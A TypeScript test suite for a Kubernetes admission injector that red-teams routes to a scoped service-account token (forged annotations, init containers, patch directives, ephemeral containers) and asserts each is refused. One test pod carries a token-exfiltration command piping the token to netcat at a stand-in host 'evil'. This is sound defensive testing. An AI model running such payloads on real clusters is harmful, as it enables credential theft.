// An independent red-team run on the containment of the scoped token (issue 17, "an independent run of
// such attacks, with routes not listed here"): routes that neither table in docs/security-model.md
// lists, tried as a namespace `edit` (and a narrow `pods/ephemeralcontainers` role) would, against the
// real API server with the shipped policies and the injector behind the shipped webhook configuration.
// Each test asserts the SAFE outcome, and reads back what the API server stored where that matters.
// There is no kubelet: what counts is what admission stores or refuses.
import assert from 'node:assert/strict';
import type { KubernetesObject, V1Pod } from '@kubernetes/client-node';
import { issueCertificate, type CertificateAndKey } from '../../lib/pki.js';
import { bindClusterRoleInNamespace, readAuditEvents, userSubject, waitForCanI } from '../../local-cluster/kube.js';
import { injectedBaselineNamespace, sendAs, type ApiResponse } from '../support/containment.js';
import { waitFor } from '../../local-cluster/wait.js';
import { withClusterLikeControlPlane, withInjector } from '../support/fixtures.js';

const SCOPED = 'chaperone-impersonator';
const INJECT = 'chaperone.dev/inject';
const IMAGE = 'ghcr.io/example/dashboard:1';
const EVIL = 'ghcr.io/attacker/steal:1';
const EDIT = 'redteam-edit';
const DEBUG = 'redteam-debug';

const projectedToken = (name: string, audience: string, expirationSeconds = 600) => ({
  name,
  projected: { sources: [{ serviceAccountToken: { audience, expirationSeconds, path: 'token' } }] },
});

describe('containment red team: routes to the scoped token not in the tables (real API server, the shipped policies)', function () {
  this.timeout(120_000);
  const { cp, clients } = withClusterLikeControlPlane();
  const { installation } = withInjector({ cp, clients });
  let ns = '';
  let edit: CertificateAndKey;
  let debugOnly: CertificateAndKey;
  const attempts: { what: string; auditID: string; status: number; user: string }[] = [];

  const podsPath = () => `/api/v1/namespaces/${ns}/pods`;
  async function tryAs(what: string, cert: CertificateAndKey, user: string, method: string, urlPath: string, body?: unknown, contentType?: string, query = ''): Promise<ApiResponse> {
    const response = await sendAs(cp, cert, method, `${urlPath}${query}`, body, contentType);
    attempts.push({ what, auditID: response.auditID, status: response.status, user });
    return response;
  }
  const asEdit = (what: string, method: string, urlPath: string, body?: unknown, contentType?: string, query = '') => tryAs(what, edit, EDIT, method, urlPath, body, contentType, query);
  const refused = (r: ApiResponse, words: RegExp, what: string) => {
    assert.ok(r.status >= 400 && r.status < 500, `${what}: HTTP ${r.status} ${r.message.slice(0, 400)}`);
    assert.match(r.message, words, what);
  };
  const injectorMount = /chaperone refuses this pod: container \S+ mounts volume \S+, which holds a service-account token/;

  before(async function () {
    this.timeout(15 * 60_000);
    ns = await injectedBaselineNamespace(installation, clients, 'redteam');
    await bindClusterRoleInNamespace(clients, ns, 'edit', [userSubject(EDIT)]);
    await clients.rbac.createNamespacedRole({ namespace: ns, body: { metadata: { name: 'only-debug' }, rules: [{ apiGroups: [''], resources: ['pods/ephemeralcontainers'], verbs: ['patch', 'update'] }] } });
    await clients.rbac.createNamespacedRoleBinding({ namespace: ns, body: { metadata: { name: 'only-debug' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'only-debug' }, subjects: [userSubject(DEBUG)] } });
    await waitForCanI(cp, EDIT, ['create', 'pods', '-n', ns]);
    await waitForCanI(cp, DEBUG, ['patch', 'pods', '--subresource=ephemeralcontainers', '-n', ns]);
    edit = issueCertificate(cp.ca, { commonName: EDIT, usage: 'client', validitySeconds: 3600 });
    debugOnly = issueCertificate(cp.ca, { commonName: DEBUG, usage: 'client', validitySeconds: 3600 });
  });

  it('a projected token of another audience and a short expiry in the dashboard container: refused by the injector', async function () {
    const r = await asEdit('projected token, other audience', 'POST', podsPath(), {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { generateName: 'aud-' },
      spec: { containers: [{ name: 'dashboard', image: IMAGE, volumeMounts: [{ name: 'vault', mountPath: '/vault' }] }], volumes: [projectedToken('vault', 'vault', 600)] },
    });
    refused(r, injectorMount, 'a projected token for audience vault');
  });

  it('a token mounted by a classic init container, by a native sidecar of her own, or through a subPath: refused', async function () {
    const variants: [string, Record<string, unknown>][] = [
      ['classic init container', { initContainers: [{ name: 'setup', image: EVIL, volumeMounts: [{ name: 'tok', mountPath: '/tok' }] }], containers: [{ name: 'dashboard', image: IMAGE }] }],
      ['native sidecar of her own', { initContainers: [{ name: 'helper', image: EVIL, restartPolicy: 'Always', volumeMounts: [{ name: 'tok', mountPath: '/tok' }] }], containers: [{ name: 'dashboard', image: IMAGE }] }],
      ['subPath of the token volume', { containers: [{ name: 'dashboard', image: IMAGE, volumeMounts: [{ name: 'tok', mountPath: '/tok/token', subPath: 'token' }] }] }],
      ['subPath of chaperone-upstream (the injector adds it)', { containers: [{ name: 'dashboard', image: IMAGE, volumeMounts: [{ name: 'chaperone-upstream', mountPath: '/t', subPath: 'token' }] }] }],
    ];
    for (const [what, spec] of variants) {
      const volumes = what.includes('chaperone-upstream') ? [] : [projectedToken('tok', '')];
      const r = await asEdit(what, 'POST', podsPath(), { apiVersion: 'v1', kind: 'Pod', metadata: { generateName: 'init-' }, spec: { ...spec, volumes } });
      refused(r, injectorMount, what);
    }
  });

  it('the deprecated spec.serviceAccount alone, on an opted-out pod with its token automounted: refused (opted-out-pod)', async function () {
    const r = await asEdit('deprecated serviceAccount, opted out', 'POST', podsPath(), {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { generateName: 'deprecated-', labels: { [INJECT]: 'disabled' } },
      spec: { serviceAccount: SCOPED, automountServiceAccountToken: true, containers: [{ name: 'thief', image: EVIL }] },
    });
    refused(r, /chaperone rule opted-out-pod: /, 'spec.serviceAccount');
  });

  it('a forged chaperone.dev/status and a `chaperone` container of her own that mounts the token: the injector puts its own sidecar in its place', async function () {
    const r = await asEdit('forged status, own chaperone container', 'POST', podsPath(), {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { generateName: 'forged-', annotations: { 'chaperone.dev/status': '{"version":1}' } },
      spec: {
        serviceAccountName: SCOPED,
        initContainers: [{ name: 'chaperone', image: EVIL, restartPolicy: 'Always', command: ['sh', '-c', 'cat /t/token | nc evil 1'], volumeMounts: [{ name: 'chaperone-upstream', mountPath: '/t' }] }],
        containers: [{ name: 'dashboard', image: IMAGE }],
        volumes: [projectedToken('chaperone-upstream', '')],
      },
    });
    assert.equal(r.status, 201, r.message);
    const pod = JSON.parse(r.body) as V1Pod;
    const sidecars = [...(pod.spec?.initContainers ?? []), ...(pod.spec?.containers ?? [])].filter((c) => c.name === 'chaperone');
    assert.equal(sidecars.length, 1);
    assert.equal(sidecars[0]!.image, installation.config().sidecarImage, 'the injector’s image, not hers');
    assert.equal(sidecars[0]!.command, undefined, 'not her command');
    assert.deepEqual(pod.spec?.containers.find((c) => c.name === 'dashboard')?.volumeMounts?.map((m) => m.name), ['chaperone-api-access'], 'the dashboard mounts only its placeholder');
  });

  it('the same pod as the replicaset controller would create it from a Deployment template: judged the same', async function () {
    const template = { serviceAccountName: SCOPED, automountServiceAccountToken: true, containers: [{ name: 'dashboard', image: IMAGE, volumeMounts: [{ name: 'tok', mountPath: '/tok' }] }], volumes: [projectedToken('tok', '')] };
    const deployment = await sendAs(cp, edit, 'POST', `/apis/apps/v1/namespaces/${ns}/deployments`, {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'templated' },
      spec: { selector: { matchLabels: { app: 'templated' } }, template: { metadata: { labels: { app: 'templated' } }, spec: template } },
    });
    assert.equal(deployment.status, 201, 'storing a Deployment is not a pod: nothing to judge yet');
    const uid = (JSON.parse(deployment.body) as KubernetesObject).metadata!.uid!;
    const asController = await sendAs(cp, undefined, 'POST', podsPath(), {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { generateName: 'templated-', labels: { app: 'templated' }, ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'templated-1', uid, controller: true }] },
      spec: template,
    }, 'application/json', { 'impersonate-user': 'system:serviceaccount:kube-system:replicaset-controller', 'impersonate-group': 'system:serviceaccounts' });
    refused(asController, injectorMount, 'the controller’s pod');
  });

  it('a server-side dry run is judged as the real request (the webhook is called, sideEffects None)', async function () {
    const r = await asEdit('dry run', 'POST', podsPath(), {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { generateName: 'dry-' },
      spec: { containers: [{ name: 'dashboard', image: IMAGE, volumeMounts: [{ name: 'tok', mountPath: '/tok' }] }], volumes: [projectedToken('tok', '')] },
    }, undefined, '?dryRun=All');
    refused(r, injectorMount, 'dry run');
  });

  describe('an injected pod, afterwards', function () {
    let pod: V1Pod;
    before(async function () {
      pod = await clients.core.createNamespacedPod({ namespace: ns, body: { metadata: { name: 'victim' }, spec: { containers: [{ name: 'dashboard', image: IMAGE }] } } });
      assert.equal(pod.spec?.serviceAccountName, SCOPED);
    });
    const podPath = (sub = '') => `/api/v1/namespaces/${ns}/pods/victim${sub ? `/${sub}` : ''}`;

    it("an update cannot add a mount, an env entry or args to the sidecar, nor share the process namespace (the API server's own immutability)", async function () {
      const sidecarIndex = pod.spec!.initContainers!.findIndex((c) => c.name === 'chaperone');
      const patches: [string, unknown[]][] = [
        ['a mount in the dashboard', [{ op: 'add', path: '/spec/containers/0/volumeMounts/-', value: { name: 'chaperone-upstream', mountPath: '/t' } }]],
        ['copy the sidecar’s mount to the dashboard', [{ op: 'copy', from: `/spec/initContainers/${sidecarIndex}/volumeMounts/0`, path: '/spec/containers/0/volumeMounts/-' }]],
        ['the sidecar’s args', [{ op: 'add', path: `/spec/initContainers/${sidecarIndex}/args/-`, value: '--anonymous' }]],
        ['the sidecar’s env', [{ op: 'add', path: `/spec/initContainers/${sidecarIndex}/env/-`, value: { name: 'CHAPERONE_ANONYMOUS', value: 'true' } }]],
        ['shareProcessNamespace', [{ op: 'add', path: '/spec/shareProcessNamespace', value: true }]],
        ['rename the sidecar', [{ op: 'replace', path: `/spec/initContainers/${sidecarIndex}/name`, value: 'renamed' }]],
      ];
      for (const [what, patch] of patches) {
        const r = await asEdit(what, 'PATCH', podPath(), patch, 'application/json-patch+json');
        assert.equal(r.status, 422, `${what}: HTTP ${r.status} ${r.message.slice(0, 300)}`);
        assert.match(r.message, /Forbidden: pod updates may not change fields other than|Invalid value/, what);
      }
    });

    it('strategic-merge directives ($patch: replace, $setElementOrder) and server-side apply with force change no more', async function () {
      const sidecarImage = pod.spec!.initContainers!.find((c) => c.name === 'chaperone')!.image;
      const replace = await asEdit('$patch replace of initContainers', 'PATCH', podPath(), { spec: { initContainers: [{ name: 'chaperone', image: EVIL, restartPolicy: 'Always', $patch: 'replace' }] } }, 'application/strategic-merge-patch+json');
      assert.ok(replace.status >= 400, `$patch replace: HTTP ${replace.status}`);
      const order = await asEdit('$setElementOrder', 'PATCH', podPath(), { spec: { '$setElementOrder/initContainers': [{ name: 'chaperone' }], initContainers: [{ name: 'chaperone', image: EVIL }] } }, 'application/strategic-merge-patch+json');
      refused(order, /chaperone rule sidecar-image-unchanged: /, '$setElementOrder with a new image');
      const apply = await asEdit('server-side apply, force', 'PATCH', podPath(), {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'victim', labels: { [INJECT]: 'disabled' } },
        spec: { initContainers: [{ name: 'chaperone', image: EVIL }] },
      }, 'application/apply-patch+yaml', '?fieldManager=redteam&force=true');
      refused(apply, /chaperone rule (opted-out-pod|sidecar-image-unchanged): /, 'server-side apply with force');
      const stored = await clients.core.readNamespacedPod({ name: 'victim', namespace: ns });
      assert.equal(stored.spec!.initContainers!.find((c) => c.name === 'chaperone')!.image, sidecarImage);
      assert.equal(stored.metadata?.labels?.[INJECT], undefined);
    });

    it('ephemeral containers through an update of the whole pod, or a JSON-patched debug container that targets the sidecar: refused', async function () {
      const viaUpdate = await asEdit('ephemeral containers through a pod update', 'PATCH', podPath(), { spec: { ephemeralContainers: [{ name: 'd1', image: EVIL, targetContainerName: 'chaperone' }] } }, 'application/strategic-merge-patch+json');
      assert.equal(viaUpdate.status, 422, 'ephemeral containers change only through their subresource');
      const viaSub = await tryAs('debug container, JSON patch, targets the sidecar', debugOnly, DEBUG, 'PATCH', podPath('ephemeralcontainers'), [
        { op: 'add', path: '/spec/ephemeralContainers', value: [{ name: 'd2', image: EVIL, targetContainerName: 'chaperone' }] },
      ], 'application/json-patch+json');
      refused(viaSub, /targets the chaperone container/, 'targetContainerName chaperone');
    });

    it('a TokenRequest for another account bound to the injected pod: refused by the API server (the pod runs as another account)', async function () {
      const r = await asEdit('TokenRequest for default, bound to the injected pod', 'POST', `/api/v1/namespaces/${ns}/serviceaccounts/default/token`, {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: { audiences: [], boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name: 'victim', uid: pod.metadata!.uid! } },
      });
      assert.equal(r.status, 400, r.message);
      assert.match(r.message, /cannot bind token for serviceaccount "default" to pod running with different serviceaccount name/);
    });

    it('pods/binding and pods/eviction: not in edit (binding picks the node, which gets the token legitimately)', async function () {
      const binding = await asEdit('pods/binding', 'POST', podPath('binding'), { apiVersion: 'v1', kind: 'Binding', metadata: { name: 'victim' }, target: { apiVersion: 'v1', kind: 'Node', name: 'attacker-node' } });
      assert.equal(binding.status, 403, binding.message);
      assert.match(binding.message, /cannot create resource "pods\/binding"/);
    });
  });

  describe('what ran', function () {
    it('the API server audited every attempt with the status the attacker saw', async function () {
      const wanted = new Map(attempts.map((a) => [a.auditID, a]));
      const seen = new Map<string, number>();
      await waitFor('every attempt in the audit log', async () => {
        for (const event of await readAuditEvents(cp)) if (wanted.has(event.auditID) && event.stage === 'ResponseComplete') seen.set(event.auditID, event.responseStatus?.code ?? 0);
        return seen.size === wanted.size;
      }, 15_000);
      for (const [id, attempt] of wanted) assert.equal(seen.get(id), attempt.status, `${attempt.what} by ${attempt.user}`);
    });
  });
});
